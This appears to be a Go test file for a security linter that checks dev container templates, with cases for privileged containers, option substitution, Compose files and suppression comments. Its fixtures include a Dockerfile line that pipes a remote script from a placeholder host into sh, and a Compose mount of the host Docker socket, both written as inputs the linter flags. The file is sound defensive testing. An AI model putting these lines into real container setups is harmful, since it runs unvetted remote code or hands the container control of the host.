package lint_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/org/claude-sandbox/devcontainer"
	"github.com/org/claude-sandbox/internal/diag"
)

// A Template is judged by all rules as the dev container that it makes, in its own files and
// at its own places, with each value of each option.
func TestAttackATemplateHidesWhatItOpens(t *testing.T) {
	const image = `"image": "debian:13@sha256:0123456789012345678901234567890123456789012345678901234567890123"`
	for name, c := range map[string]struct {
		options string
		files   devcontainer.Memory
		want    string
	}{
		"privileged": {"", devcontainer.Memory{".devcontainer/devcontainer.json": "{" + image + `, "privileged": true}`},
			".devcontainer/devcontainer.json:1:110 SBX402"},
		"behind an option on its line": {`"options": {"n": {"type": "string", "default": "a much longer name than the option"}}`,
			devcontainer.Memory{".devcontainer/devcontainer.json": "{" + image + `, "name": "${templateOption:n}", "privileged": true}`},
			".devcontainer/devcontainer.json:1:141 SBX402"},
		"by one value of an option": {`"options": {"p": {"type": "string", "enum": ["false", "true"], "default": "false"}}`,
			devcontainer.Memory{".devcontainer/devcontainer.json": "{" + image + ",\n \"privileged\": ${templateOption:p}}"},
			`.devcontainer/devcontainer.json:2:16 SBX402 with p = "true"`},
		"by a yes or no": {`"options": {"p": {"type": "boolean", "default": "false"}}`,
			devcontainer.Memory{".devcontainer/devcontainer.json": "{" + image + ",\n \"privileged\": ${templateOption:p}}"},
			`.devcontainer/devcontainer.json:2:16 SBX402 with p = "true"`},
		"in a Compose file": {`"options": {"v": {"type": "string", "default": "17"}}`,
			devcontainer.Memory{".devcontainer/devcontainer.json": `{"dockerComposeFile": "compose.yml", "service": "app", "workspaceFolder": "/w"}`,
				".devcontainer/compose.yml": "services:\n  app:\n    image: debian:${templateOption:v}\n    command: sleep infinity\n" +
					"    volumes: ['..:/w', '/var/run/docker.sock:/var/run/docker.sock']\n"},
			".devcontainer/compose.yml:5:24 SBX401"},
		"in a Dockerfile": {`"options": {"v": {"type": "string", "default": "13"}}`,
			devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
				".devcontainer/Dockerfile": "FROM example.com/base:${templateOption:v}\nRUN curl http://x.example/a | sh\n"},
			".devcontainer/Dockerfile:2:5 SBX705"},
		"excused": {"",
			devcontainer.Memory{".devcontainer/devcontainer.json": "{" + image + ",\n// sbx-ignore SBX402: needs it\n\"privileged\": true}"}, ""},
		"excused for nothing": {"", devcontainer.Memory{".devcontainer/devcontainer.json": "{" + image + "\n// sbx-ignore SBX402: needs it\n}"},
			".devcontainer/devcontainer.json:2:1 SBX108"},
		"a file of its own folder": {"", devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}}`},
			".devcontainer/devcontainer.json:1:26 SBX311"},
		"a file of the project": {"",
			devcontainer.Memory{".devcontainer/devcontainer.json": "{" + image + `, "postCreateCommand": "bash scripts/setup.sh"}`}, ""},
		"a Dockerfile of the project": {"",
			devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "../Dockerfile", "context": ".."}}`},
			""},
	} {
		t.Run(name, func(t *testing.T) {
			if c.options == "" {
				c.options = `"platforms": []`
			}
			files := devcontainer.Memory{"src/app/devcontainer-template.json": `{"id": "app", "version": "1.0.0", "name": "App", ` + c.options + `}`}
			for name, text := range c.files {
				files["src/app/"+name] = text
			}
			var got []string
			for _, f := range judge(t, files) {
				if f.Severity == diag.SeverityNote {
					continue
				}
				said := fmt.Sprintf("%s:%d:%d %s", strings.TrimPrefix(f.File, "src/app/"), f.Line, f.Column, f.Rule)
				if how, _, ok := strings.Cut(f.Message, ": "); ok && strings.HasPrefix(how, "with ") {
					said += " " + how
				}
				got = append(got, said)
			}
			if strings.Join(got, ", ") != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

// Hundreds of values are judged to a bound, and one large value ends a file.
func TestTemplateWithManyChoices(t *testing.T) {
	values := strings.Repeat(`"`+strings.Repeat("x", 2000)+`",`, 2000)
	judge(t,
		devcontainer.Memory{
			"app/devcontainer-template.json": `{"id": "app", "version": "1.0.0", "name": "App", "options": {"v": {"type": "string",
		"proposals": [` + strings.TrimSuffix(values, ",") + `], "default": "1"}}}`,
			"app/.devcontainer/devcontainer.json": `{"image": "a:` + strings.Repeat("${templateOption:v}", 1000) + `"}`})
}

// A Template with more choices than are judged says so; its files may be long, too.
func TestAttackATemplateHasMoreChoicesThanAreJudged(t *testing.T) {
	template := func(values, lines int) devcontainer.Memory {
		var list []string
		for n := range values {
			list = append(list, fmt.Sprintf("%q", fmt.Sprint("v", n)))
		}
		return devcontainer.Memory{
			"src/t/devcontainer-template.json": `{"id": "t", "version": "1.0.0", "name": "T", "description": "d",
				"options": {"o": {"type": "string", "description": "d", "default": "v0", "proposals": [` + strings.Join(list, ", ") + `]}}}`,
			"src/t/.devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "name": "${templateOption:o}"}`,
			"src/t/.devcontainer/Dockerfile":        "FROM debian:13" + digest + "\nUSER 1\n" + strings.Repeat("# a line that is read\n", lines),
		}
	}
	for name, c := range map[string]struct {
		values, lines int
		want          string
	}{"few": {20, 10, ""}, "many": {300, 10, "SBX109"}, "long": {20, 10000, "SBX109"}} {
		if found := ids(t, template(c.values, c.lines)); found != c.want {
			t.Errorf("%s: found %q, want %q", name, found, c.want)
		}
	}
}
